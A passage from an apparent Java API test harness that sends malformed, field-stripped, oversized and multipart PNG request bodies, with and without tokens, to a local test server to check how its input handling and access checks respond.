        bodies.add(write(many));
        Iterator<String> fields = object.fieldNames();
        while (fields.hasNext()) {
            String field = fields.next();
            ObjectNode without = object.deepCopy();
            without.remove(field);
            bodies.add(write(without));
            for (JsonNode hostile : HOSTILE) {
                ObjectNode broken = object.deepCopy();
                broken.set(field, hostile);
                bodies.add(write(broken));
            }
            if (object.get(field) instanceof ArrayNode) {
                ObjectNode huge = object.deepCopy();
                ArrayNode items = huge.putArray(field);
                for (int i = 0; i < 10_000; i++) {
                    items.add("item" + i);
                }
                bodies.add(write(huge));
            }
        }
        return bodies;
    }

    private static byte[] write(JsonNode node) {
        try {
            return JSON.writeValueAsBytes(node);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private byte[] body(Operation op) {
        return op.bodySchema() == null ? new byte[0] : write(plausible(op.bodySchema()));
    }

    private HttpResponse<String> send(Operation op, String token, byte[] jsonBody, String jsonType) throws IOException, InterruptedException {
        // an upload is called as a client calls it, with a multipart body holding a real picture: a JSON body would be
        // refused with 415 before the roles or the object are looked at, and prove nothing
        String field = multipartFields.get(op.key());
        byte[] body = field == null ? jsonBody : multipartProbe(field);
        String type = field == null ? jsonType : "multipart/form-data; boundary=" + BOUNDARY;
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base() + op.path())).timeout(Duration.ofSeconds(30))
                .header("Content-Type", type)
                .method(op.method(), body.length == 0 ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    /** A multipart body with one 16 × 16 PNG in {@code field}. */
    private static byte[] multipartProbe(String field) {
        java.io.ByteArrayOutputStream png = new java.io.ByteArrayOutputStream();
        try {
            javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(16, 16, java.awt.image.BufferedImage.TYPE_INT_RGB), "png", png);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        out.writeBytes(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + field + "\"; filename=\"probe.png\"\r\n"
                + "Content-Type: image/png\r\n\r\n").getBytes(StandardCharsets.UTF_8));
        out.writeBytes(png.toByteArray());
        out.writeBytes(("\r\n--" + BOUNDARY + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private HttpResponse<String> sendBytes(Operation op, String token, byte[] body) throws IOException, InterruptedException {
        return send(op, token, body, "application/json");
    }

    private static String base() {
        return RestAssured.baseURI + ":" + RestAssured.port;
    }

    private static String preview(byte[] body) {
        return preview(new String(body, 0, Math.min(body.length, 120), StandardCharsets.UTF_8));
    }

    private static String preview(String text) {
        return text == null ? "" : text.length() > 120 ? text.substring(0, 120) + "…" : text;
    }
}
